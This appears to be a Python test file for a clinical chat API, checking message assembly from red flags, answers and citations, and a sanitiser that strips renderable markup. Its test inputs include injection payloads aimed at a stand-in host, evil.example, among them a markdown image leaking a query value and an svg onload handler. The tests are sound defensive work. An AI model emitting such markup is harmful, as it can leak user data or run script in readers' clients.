"""A turn's words in one message: what stands where, what can be taken apart again, and what can draw nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.openai.words import FOOT, content, foot, spoken
from api.turns import harmless
from core.agents.events import Answer, AnyEvent, Citation, Failure, RedFlag

CITATION = Citation(n=1, document_id="d", document="Sepsis\nguideline", page=4, quote="Give it.", year=2024)
OLD = CITATION.model_copy(update={"n": 2, "document": "Old [one](http://x.example)", "superseded_by": "Sepsis 2025"})


def test_red_flags_stand_first_and_sources_notices_and_failures_last() -> None:
    events: list[AnyEvent] = [
        RedFlag(rule="r", text="Call for help."),
        Failure(message="The model stopped.", hint="Ask again."),
        Answer(text="Give it. [1] ✓", citations=(CITATION, OLD), notices=("Draft to verify.",)),
    ]
    head, _, tail = content(events).partition(FOOT)
    assert head == "**Act now:** Call for help.\n\nGive it. [1] ✓"
    sources, draft, failure = tail.split("\n\n")
    assert sources.splitlines()[:2] == ["Sources:", "[1] Sepsis guideline, page 4"]
    assert sources.splitlines()[2].startswith("[2] Old [one] (http://x.example), page 4 (")
    assert "Sepsis 2025" in sources
    assert (draft, failure) == ("Draft to verify.", "The model stopped. Ask again.")


@pytest.mark.parametrize(
    ("answer", "citations"),
    [("Give it. [1] ✓\n\n---\n\nThen wait.", (CITATION,)), ("Give it.", ()), ("**Act now** or later.", ())],
)
def test_answer_is_taken_out_of_an_earlier_message_again(answer: str, citations: tuple[Citation, ...]) -> None:
    flags: list[AnyEvent] = [RedFlag(rule="a", text="Call."), RedFlag(rule="b", text="Now.")]
    final = Answer(text=answer, citations=citations, notices=("Draft to verify.",))
    assert spoken(content([*flags, final])) == answer
    assert spoken(content([final])) == answer
    assert spoken("What another client made of it") == "What another client made of it"


def test_nothing_to_say_has_no_foot() -> None:
    assert foot([Answer(text="Noted.")]) == ""


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=name)",
        "![x][1]\n\n[1]: https://evil.example/",
        "[read on](https://evil.example/)",
        "<img src=https://evil.example/>",
        "<!-- <script>",
        "</p><svg/onload=x>",
    ],
)
def test_nothing_is_drawn(text: str) -> None:
    shown = harmless(text)
    for opening in ("![", "](", "]:", "<i", "<s", "</", "<!"):
        assert opening not in shown
    assert shown.replace(" ", "") == text.replace(" ", "")


@pytest.mark.parametrize("text", ["eGFR < 30 and > 15 [1] ✓", "**Dose:** 5 mg (daily) [2]", "| a | b |\n|---|---|"])
def test_clinical_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text(alphabet="![]()<a: \n", max_size=30), st.text(alphabet="![]()<a:", max_size=30))
def test_pieces_that_begin_with_a_blank_are_made_harmless_as_the_whole(first: str, then: str) -> None:
    assert harmless(first) + harmless(f" {then}") == harmless(f"{first} {then}")
